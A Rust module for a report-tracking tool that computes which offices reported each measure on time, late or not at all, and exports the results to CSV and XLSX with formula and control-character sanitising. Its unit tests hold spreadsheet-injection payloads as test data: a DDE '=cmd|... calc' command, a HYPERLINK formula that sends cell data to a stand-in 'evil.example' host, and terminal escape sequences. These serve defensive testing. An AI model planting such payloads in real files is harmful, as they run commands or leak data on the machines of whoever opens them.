//! Report: completeness (`status`) and exports (JSON, CSV, XLSX) computed from stored items.
//! Pure functions over rows read from the store; writing files is the caller's business.

use std::collections::HashMap;

use jiff::Timestamp;
use serde::Serialize;

use crate::analysis::parse::MessageKind;
use crate::analysis::plan::Plan;
use crate::analysis::reason::ReasonCode;
use crate::outgoing::records::{ItemRow, MessageRow, PartRow};
use crate::outgoing::review::{NeedsReview, needs_review};

/// An item as exported (docs/semantics.md, "The export").
#[derive(Debug, Clone, Serialize)]
pub struct ExportItem {
    pub executor: String,
    pub period: Option<u32>,
    pub measure: Option<u32>,
    pub text: String,
    pub confidence: f64,
    pub late: bool,
    pub message_id: String,
    pub received: String,
    pub source: String,
    pub sheet: Option<String>,
    pub row: Option<i64>,
    /// Why the item is under its measure (see `pipeline::Item::evidence`).
    pub evidence: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub superseded: Option<bool>,
}

#[derive(Debug, Clone, Serialize)]
pub struct Unattributed {
    pub message_id: String,
    pub from: Option<String>,
    pub reason: String,
}

/// Something a person should look at.
#[derive(Debug, Clone, Serialize)]
pub struct ReviewEntry {
    pub message_id: String,
    pub executor: Option<String>,
    /// Stable reason code.
    pub reason: String,
    pub detail: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct Export {
    pub items: Vec<ExportItem>,
    pub unattributed: Vec<Unattributed>,
    pub not_applicable: Vec<ExportItem>,
    pub review: Vec<ReviewEntry>,
}

/// Formats a timestamp as RFC 3339 with the plan's UTC offset.
pub fn local_time(plan: &Plan, ts: i64) -> String {
    Timestamp::from_second(ts)
        .map(|t| {
            t.to_zoned_datetime(plan.tz.clone())
                .strftime("%Y-%m-%dT%H:%M:%S%:z")
                .to_string()
        })
        .unwrap_or_default()
}

/// Marks each item superseded when a later message of the same executor maps to the same
/// measure in the same period. The office's own mail outranks another office's joint report
/// on it, whatever their dates: a section of someone else's letter fills a measure the office
/// has not reported, and never replaces what the office itself wrote.
pub fn superseded_flags(items: &[ItemRow]) -> Vec<bool> {
    fn rank(it: &ItemRow) -> (bool, i64, &str) {
        (!it.joint, it.received_ts, it.message_id.as_str())
    }
    let mut latest: HashMap<(&str, u32, u32), (bool, i64, &str)> = HashMap::new();
    for it in items {
        if let (Some(p), Some(m)) = (it.period, it.measure) {
            let key = (it.executor.as_str(), p, m);
            let cand = rank(it);
            let e = latest.entry(key).or_insert(cand);
            if cand > *e {
                *e = cand;
            }
        }
    }
    items
        .iter()
        .map(|it| match (it.period, it.measure) {
            (Some(p), Some(m)) => latest[&(it.executor.as_str(), p, m)] != rank(it),
            _ => false,
        })
        .collect()
}

pub fn build_export(
    plan: &Plan,
    items: &[ItemRow],
    messages: &[MessageRow],
    period: Option<u32>,
    all: bool,
) -> Export {
    let flags = superseded_flags(items);
    let mut export = Export {
        items: vec![],
        unattributed: vec![],
        not_applicable: vec![],
        review: vec![],
    };
    for (it, superseded) in items.iter().zip(flags) {
        if period.is_some() && it.period != period {
            continue;
        }
        if superseded && !all {
            continue;
        }
        let e = ExportItem {
            executor: it.executor.clone(),
            period: it.period,
            measure: it.measure,
            text: it.text.clone(),
            confidence: it.confidence,
            late: it.late,
            message_id: format!("<{}>", it.message_id),
            received: local_time(plan, it.received_ts),
            source: it.source.clone(),
            sheet: it.sheet.clone(),
            row: it.row,
            evidence: it.evidence.clone(),
            superseded: all.then_some(superseded),
        };
        if it.not_applicable {
            export.not_applicable.push(e);
            continue;
        }
        if it.measure.is_none() && !superseded {
            export.review.push(ReviewEntry {
                message_id: e.message_id.clone(),
                executor: Some(it.executor.clone()),
                reason: "low_confidence".into(),
                detail: it.text.chars().take(200).collect(),
            });
        }
        export.items.push(e);
    }
    for m in messages {
        if period.is_some() && m.period != period {
            continue;
        }
        let mid = format!("<{}>", m.message_id);
        match needs_review(m.reason_code) {
            Some(NeedsReview::Unattributed) => export.unattributed.push(Unattributed {
                message_id: mid.clone(),
                from: m.from.clone(),
                reason: m.reason_code.map(|c| c.to_string()).unwrap_or_default(),
            }),
            Some(NeedsReview::Crashed | NeedsReview::Look) => export.review.push(ReviewEntry {
                message_id: mid.clone(),
                executor: m.executor.clone(),
                reason: m.reason_code.map(|c| c.to_string()).unwrap_or_default(),
                detail: m.reason_text.clone().unwrap_or_default(),
            }),
            None => {}
        }
    }
    export
}

/// Adds unreadable parts of reports to the review list (needs the part rows per message).
pub fn add_part_reviews(export: &mut Export, parts: &[(MessageRow, Vec<PartRow>)]) {
    for (m, ps) in parts {
        if m.kind != Some(MessageKind::Report) {
            continue;
        }
        for p in ps {
            // (An attachment counted when its letter first came needs nobody.)
            if p.reason_code == Some(ReasonCode::ReceivedBefore) {
                continue;
            }
            if let (Some(code), Some(text)) = (&p.reason_code, &p.reason_text) {
                export.review.push(ReviewEntry {
                    message_id: format!("<{}>", m.message_id),
                    executor: m.executor.clone(),
                    reason: code.to_string(),
                    detail: format!("{}: {text}", p.name),
                });
            }
        }
    }
}

/// The state of one owed measure for one executor in one period.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Cell {
    OnTime,
    Late,
    Missing,
    NotApplicable,
}

#[derive(Debug, Clone, Serialize)]
pub struct ExecutorStatus {
    pub id: String,
    pub name: String,
    pub on_time: Vec<u32>,
    pub late: Vec<u32>,
    pub missing: Vec<u32>,
    pub not_applicable: Vec<u32>,
    /// Measures reported on that the executor does not owe (reported anyway).
    pub extra: Vec<u32>,
}

#[derive(Debug, Clone, Default, Serialize)]
pub struct Totals {
    /// Executors expected to report.
    pub expected: usize,
    /// Executors who covered everything they owe, all on time.
    pub complete_on_time: usize,
    /// Executors who covered everything, some of it late.
    pub complete_late: usize,
    /// Executors with something covered and something missing.
    pub partial: usize,
    /// Executors with nothing covered.
    pub missing: usize,
    pub measures_owed: usize,
    pub measures_on_time: usize,
    pub measures_late: usize,
    pub measures_missing: usize,
    pub measures_not_applicable: usize,
}

#[derive(Debug, Clone, Serialize)]
pub struct PeriodStatus {
    pub period: u32,
    pub starts: String,
    pub deadline: String,
    pub executors: Vec<ExecutorStatus>,
    pub totals: Totals,
}

/// Completeness of one period: who owes what, and what is covered on time, late, or missing.
pub fn period_status(plan: &Plan, items: &[ItemRow], period: u32) -> PeriodStatus {
    let flags = superseded_flags(items);
    // (executor, measure) → best state seen.
    let mut seen: HashMap<(&str, u32), Cell> = HashMap::new();
    for (it, superseded) in items.iter().zip(flags) {
        let (Some(p), Some(m)) = (it.period, it.measure) else {
            continue;
        };
        if p != period || superseded {
            continue;
        }
        let cell = if it.not_applicable {
            Cell::NotApplicable
        } else if it.late {
            Cell::Late
        } else {
            Cell::OnTime
        };
        let e = seen.entry((it.executor.as_str(), m)).or_insert(cell);
        if rank(cell) > rank(*e) {
            *e = cell;
        }
    }
    let mut executors = Vec::new();
    let mut totals = Totals::default();
    for ex in &plan.executors {
        let owed = plan.owed_measures(ex, period);
        let reported: Vec<u32> = {
            let mut v: Vec<u32> = seen
                .keys()
                .filter(|(e, _)| *e == ex.id)
                .map(|(_, m)| *m)
                .collect();
            v.sort();
            v
        };
        if owed.is_empty() && reported.is_empty() {
            continue;
        }
        let mut st = ExecutorStatus {
            id: ex.id.clone(),
            name: ex.name.clone(),
            on_time: vec![],
            late: vec![],
            missing: vec![],
            not_applicable: vec![],
            extra: vec![],
        };
        for m in &owed {
            match seen.get(&(ex.id.as_str(), m.number)) {
                Some(Cell::OnTime) => st.on_time.push(m.number),
                Some(Cell::Late) => st.late.push(m.number),
                Some(Cell::NotApplicable) => st.not_applicable.push(m.number),
                Some(Cell::Missing) | None => st.missing.push(m.number),
            }
        }
        st.extra = reported
            .into_iter()
            .filter(|n| !owed.iter().any(|m| m.number == *n))
            .collect();
        if !owed.is_empty() {
            totals.expected += 1;
            totals.measures_owed += owed.len();
            totals.measures_on_time += st.on_time.len();
            totals.measures_late += st.late.len();
            totals.measures_missing += st.missing.len();
            totals.measures_not_applicable += st.not_applicable.len();
            let covered = st.on_time.len() + st.late.len() + st.not_applicable.len();
            if st.missing.is_empty() {
                if st.late.is_empty() {
                    totals.complete_on_time += 1;
                } else {
                    totals.complete_late += 1;
                }
            } else if covered > 0 {
                totals.partial += 1;
            } else {
                totals.missing += 1;
            }
        }
        executors.push(st);
    }
    let (starts, _) = plan
        .period_bounds(period)
        .unwrap_or((Timestamp::UNIX_EPOCH, Timestamp::UNIX_EPOCH));
    PeriodStatus {
        period,
        starts: starts.to_zoned_datetime(plan.tz.clone()).date().to_string(),
        deadline: plan
            .deadlines
            .get(period as usize - 1)
            .map(|d| d.to_string())
            .unwrap_or_default(),
        executors,
        totals,
    }
}

fn rank(c: Cell) -> u8 {
    match c {
        Cell::Missing => 0,
        Cell::NotApplicable => 1,
        Cell::Late => 2,
        Cell::OnTime => 3,
    }
}

/// The status as a text table for a terminal.
pub fn status_text(s: &PeriodStatus) -> String {
    let list = |v: &[u32]| {
        if v.is_empty() {
            "-".to_string()
        } else {
            v.iter().map(u32::to_string).collect::<Vec<_>>().join(",")
        }
    };
    let mut out = format!("Period {} ({} – {})\n", s.period, s.starts, s.deadline);
    out.push_str(&format!(
        "{:<28} {:<22} {:<14} {:<22} {}\n",
        "executor", "on time", "late", "missing", "n/a"
    ));
    for e in &s.executors {
        out.push_str(&format!(
            "{:<28} {:<22} {:<14} {:<22} {}\n",
            e.id,
            list(&e.on_time),
            list(&e.late),
            list(&e.missing),
            list(&e.not_applicable)
        ));
    }
    let t = &s.totals;
    out.push_str(&format!(
        "executors: {} expected, {} complete on time, {} complete with late parts, {} partial, {} missing\nmeasures: {} owed, {} on time, {} late, {} missing, {} not applicable\n",
        t.expected, t.complete_on_time, t.complete_late, t.partial, t.missing, t.measures_owed, t.measures_on_time, t.measures_late, t.measures_missing, t.measures_not_applicable
    ));
    out
}

const CSV_HEADER: [&str; 12] = [
    "виконавець",
    "період",
    "пункт",
    "текст",
    "впевненість",
    "із запізненням",
    "message_id",
    "отримано",
    "джерело",
    "аркуш",
    "рядок",
    "замінено",
];

fn item_fields(e: &ExportItem) -> [String; 12] {
    let opt = |v: Option<String>| v.unwrap_or_default();
    [
        e.executor.clone(),
        opt(e.period.map(|p| p.to_string())),
        opt(e.measure.map(|p| p.to_string())),
        e.text.clone(),
        format!("{:.2}", e.confidence),
        if e.late { "так" } else { "ні" }.into(),
        e.message_id.clone(),
        e.received.clone(),
        e.source.clone(),
        opt(e.sheet.clone()),
        opt(e.row.map(|r| r.to_string())),
        if e.superseded == Some(true) {
            "так"
        } else {
            ""
        }
        .into(),
    ]
}

/// CSV as Ukrainian Excel opens it: UTF-8 with a BOM, ";" between fields, CRLF lines. A cell
/// that a spreadsheet would take for a formula (report text is written by strangers) starts
/// with an apostrophe ([`crate::outgoing::safe::csv_cell`]).
pub fn export_csv(export: &Export) -> Vec<u8> {
    let quote = |s: &str| {
        // No terminal control characters (the export may be printed), no formula, and a
        // field with any separator a spreadsheet might split on (";" here, "," or tab in
        // other locales) is quoted whole.
        let clean = crate::outgoing::safe::text(s);
        let s = crate::outgoing::safe::csv_cell(&clean);
        if s.contains([';', ',', '\t', '"', '\n', '\r']) {
            format!("\"{}\"", s.replace('"', "\"\""))
        } else {
            s.to_string()
        }
    };
    let mut out = String::from("\u{feff}");
    out.push_str(&CSV_HEADER.join(";"));
    out.push_str("\r\n");
    for e in &export.items {
        let fields: Vec<String> = item_fields(e).iter().map(|f| quote(f)).collect();
        out.push_str(&fields.join(";"));
        out.push_str("\r\n");
    }
    out.into_bytes()
}

/// The export as an .xlsx workbook: items, not applicable, unattributed and review sheets.
///
/// Text goes in as string cells (`write` of a string is `write_string`: never a formula, so
/// "=cmd|…" stays text), through [`crate::outgoing::safe::xlsx_cell`]: characters XML forbids dropped
/// and cut to what a cell holds, so that no report text can make the workbook fail.
pub fn export_xlsx(export: &Export) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    use crate::outgoing::safe::xlsx_cell as cell;
    use rust_xlsxwriter::{Format, Workbook};
    let mut wb = Workbook::new();
    let bold = Format::new().set_bold().set_text_wrap();
    let wrap = Format::new().set_text_wrap();
    let widths = [
        18.0, 8.0, 7.0, 80.0, 11.0, 13.0, 30.0, 22.0, 24.0, 14.0, 7.0, 10.0,
    ];
    let mut item_sheet =
        |name: &str, rows: &[ExportItem]| -> Result<(), rust_xlsxwriter::XlsxError> {
            let ws = wb.add_worksheet().set_name(name)?;
            for (c, h) in CSV_HEADER.iter().enumerate() {
                ws.write_with_format(0, c as u16, *h, &bold)?;
                ws.set_column_width(c as u16, widths[c])?;
            }
            for (r, e) in rows.iter().enumerate() {
                for (c, f) in item_fields(e).iter().enumerate() {
                    let row = r as u32 + 1;
                    match (c, f.parse::<f64>()) {
                        (1 | 2 | 4 | 10, Ok(v)) => ws.write_number(row, c as u16, v)?,
                        _ => ws.write_with_format(row, c as u16, cell(f), &wrap)?,
                    };
                }
            }
            ws.set_freeze_panes(1, 0)?;
            ws.autofilter(0, 0, rows.len() as u32, CSV_HEADER.len() as u16 - 1)?;
            Ok(())
        };
    item_sheet("Звіти", &export.items)?;
    item_sheet("Не стосується", &export.not_applicable)?;
    let ws = wb.add_worksheet().set_name("На розгляд")?;
    for (c, h) in ["message_id", "виконавець", "причина", "деталі"]
        .iter()
        .enumerate()
    {
        ws.write_with_format(0, c as u16, *h, &bold)?;
    }
    ws.set_column_width(0, 34.0)?;
    ws.set_column_width(1, 18.0)?;
    ws.set_column_width(2, 16.0)?;
    ws.set_column_width(3, 90.0)?;
    let mut r = 1;
    for u in &export.unattributed {
        ws.write(r, 0, cell(&u.message_id))?;
        ws.write(r, 2, cell(&u.reason))?;
        ws.write(r, 3, cell(u.from.as_deref().unwrap_or_default()))?;
        r += 1;
    }
    for e in &export.review {
        ws.write(r, 0, cell(&e.message_id))?;
        ws.write(r, 1, cell(e.executor.as_deref().unwrap_or_default()))?;
        ws.write(r, 2, cell(&e.reason))?;
        ws.write_with_format(r, 3, cell(&e.detail), &wrap)?;
        r += 1;
    }
    ws.set_freeze_panes(1, 0)?;
    wb.save_to_buffer()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Nizhyn's item on measure 6 of period 1, from message `mid` received at `ts`.
    fn row(mid: &str, ts: i64, joint: bool) -> ItemRow {
        ItemRow {
            message: ts,
            message_id: mid.into(),
            received_ts: ts,
            joint,
            ..ItemRow::sample(mid)
        }
    }

    #[test]
    fn a_later_mail_supersedes_an_earlier_one_on_the_same_measure() {
        let flags = superseded_flags(&[row("own-1", 100, false), row("own-2", 200, false)]);
        assert_eq!(flags, vec![true, false]);
    }

    #[test]
    fn another_offices_joint_report_never_supersedes_the_offices_own_item() {
        // The joint section came later: the office's own earlier report still stands.
        let flags = superseded_flags(&[row("own", 100, false), row("joint", 200, true)]);
        assert_eq!(flags, vec![false, true]);
        // The office's own later report replaces an earlier joint section.
        let flags = superseded_flags(&[row("joint", 100, true), row("own", 200, false)]);
        assert_eq!(flags, vec![true, false]);
        // With nothing of its own, the joint section counts.
        assert_eq!(superseded_flags(&[row("joint", 100, true)]), vec![false]);
    }

    fn item(text: &str) -> ExportItem {
        ExportItem {
            executor: "rda-nizhyn".into(),
            period: Some(1),
            measure: Some(6),
            text: text.into(),
            confidence: 0.9,
            late: false,
            message_id: "<m@x>".into(),
            received: "2012-12-10T10:00:00+02:00".into(),
            source: "=report.xlsx".into(),
            sheet: Some("@Sheet".into()),
            row: Some(3),
            evidence: "номер пункту в тексті".into(),
            superseded: None,
        }
    }

    fn export(texts: &[&str]) -> Export {
        Export {
            items: texts.iter().map(|t| item(t)).collect(),
            unattributed: vec![],
            not_applicable: vec![],
            review: vec![ReviewEntry {
                message_id: "<r@x>".into(),
                executor: None,
                reason: "low_confidence".into(),
                detail: "=cmd|' /C calc'!A0".into(),
            }],
        }
    }

    #[test]
    fn csv_fields_carry_no_control_characters_and_commas_are_quoted() {
        let csv = String::from_utf8(export_csv(&export(&[
            "\u{1b}]0;pwned\u{7}title \u{202e}txt",
            "1. Оприлюднено,=cmd|' /C calc'!A0",
        ])))
        .unwrap();
        assert!(!csv.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{csv:?}");
        assert!(
            csv.contains("\"1. Оприлюднено,=cmd|' /C calc'!A0\""),
            "a field with a comma is one quoted field: {csv}"
        );
    }

    #[test]
    fn csv_export_neutralises_formulas_and_keeps_numbers() {
        let csv = String::from_utf8(export_csv(&export(&[
            "=HYPERLINK(\"http://evil.example/?\"&D2,\"Деталі\")",
            "=cmd|' /C calc'!A0",
            "-5",
            "+3.5",
            "Проведено 4 консультації",
        ])))
        .unwrap();
        let rows: Vec<Vec<&str>> = csv
            .lines()
            .skip(1)
            .map(|l| l.split(';').collect())
            .collect();
        assert_eq!(
            rows[0][3], "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&D2,\"\"Деталі\"\")\"",
            "the cell is quoted and starts with an apostrophe: {csv}"
        );
        assert_eq!(rows[1][3], "'=cmd|' /C calc'!A0");
        assert_eq!(rows[2][3], "-5");
        assert_eq!(rows[3][3], "+3.5");
        assert_eq!(rows[4][3], "Проведено 4 консультації");
        // Fields zvit does not write itself are neutralised too (source, sheet).
        assert_eq!(rows[4][8], "'=report.xlsx");
        assert_eq!(rows[4][9], "'@Sheet");
        for row in &rows {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '@']) || *cell == "+3.5",
                    "{cell}"
                );
            }
        }
    }

    /// rust_xlsxwriter writes strings as shared strings, never formulas; a text over Excel's
    /// 32,767 characters and control characters do not make the workbook fail.
    #[test]
    fn xlsx_export_writes_formula_text_as_strings_and_survives_long_and_control_text() {
        let long = "я".repeat(40_000);
        let bytes = export_xlsx(&export(&[
            "=cmd|' /C calc'!A0",
            &long,
            "керування\u{1}\u{1b}[2J\u{fffe}",
        ]))
        .expect("the workbook is built");
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let mut xml = String::new();
        for i in 0..zip.len() {
            let mut f = zip.by_index(i).unwrap();
            let name = f.name().unwrap().to_string();
            if name.ends_with(".xml") {
                let mut s = String::new();
                std::io::Read::read_to_string(&mut f, &mut s).unwrap();
                assert!(
                    !s.contains("<f>") && !s.contains("<f "),
                    "{name}: no formula cells"
                );
                xml.push_str(&s);
            }
        }
        assert!(xml.contains("=cmd|' /C calc'!A0"), "the text is kept");
        assert!(xml.contains("керування[2J"));
        assert!(!xml.contains('\u{1}') && !xml.contains("_x0001_"));
    }
}
